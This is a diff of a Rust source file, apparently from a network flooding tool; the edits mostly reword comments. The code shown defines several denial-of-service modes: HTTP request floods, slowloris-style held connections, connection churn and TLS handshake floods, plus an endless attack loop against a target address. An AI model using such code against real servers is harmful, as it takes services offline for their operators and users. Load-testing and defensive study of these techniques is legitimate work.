@@ -1,4 +1,4 @@
-//! How a flood is sent: threads with sockets, which do little else.
+//! How a flood is sent: by threads with sockets, which do little else.
 
 use std::{
     io::{self, ErrorKind, Read, Write},
@@ -16,24 +16,26 @@ use rustls::{ClientConfig, ClientConnection, StreamOwned, pki_types::ServerName}
 use super::blocking::{Buffer, connect};
 use crate::Result;
 
-/// What a connection says, piece by piece, and for ever.
+/// The pieces that a connection sends, one after the other, without an end.
 pub(super) type Speech = Box<dyn Iterator<Item = Vec<u8>>>;
 
-/// What a thread does again and again.
+/// The action that a thread repeats.
 pub(super) enum Attack {
-    /// Sends one of these requests of HTTP/1.1 after the other, each when the one before is answered.
+    /// Sends one of these requests of HTTP/1.1 after the other, each after the answer to the request before
+    /// it.
     Asks(Vec<Vec<u8>>),
-    /// Says this without waiting for anything, and throws away what it hears.
+    /// Sends these pieces without waiting for anything, and ignores the answers.
     Says(Box<dyn Fn() -> Speech + Send + Sync>),
-    /// Opens so many connections and says the first on each; then the second on each, once a second. Hears nothing.
+    /// Opens these connections and sends `first` on each. Then it sends `then` on each, once a second. It
+    /// reads nothing.
     Holds { connections: usize, first: Vec<u8>, then: Vec<u8> },
-    /// Opens a connection, says this, and closes it.
+    /// Opens a connection, sends these bytes, and closes the connection.
     Churns(Vec<u8>),
     /// Shakes hands, and closes the connection.
     ShakesHands(Arc<ClientConfig>),
 }
 
-/// Whom, and how often that was done.
+/// The attacked server, and the number of actions so far.
 pub(super) struct Against {
     pub(super) address: SocketAddr,
     pub(super) rounds: AtomicU64,
@@ -45,14 +47,14 @@ impl Against {
     }
 }
 
-/// How long a thread pauses that can do nothing.
+/// The pause of a thread that can do nothing.
 const PAUSE: Duration = Duration::from_micros(200);
 const LONG_PAUSE: Duration = Duration::from_millis(5);
 
-/// Does it for ever.
+/// Repeats the attack without an end.
 pub(super) fn run(attack: &Attack, against: &Against) -> ! {
     loop {
-        // The server closes, refuses, or is out of places: on with the next connection.
+        // The server closes, refuses, or has no room: the thread continues with the next connection.
         if attack.once(against).is_err() {
             thread::sleep(PAUSE);
         }
@@ -122,7 +124,7 @@ fn hold(connections: usize, first: &[u8], then: &[u8], against: &Against) -> Res
     let open = || -> io::Result<TcpStream> {
         let mut stream = TcpStream::connect(against.address)?;
         stream.set_nonblocking(true)?;
-        // What does not fit into the socket is not said.
+        // Bytes that do not fit into the socket are not sent.
         let _ = stream.write(first);
         against.count();
         Ok(stream)
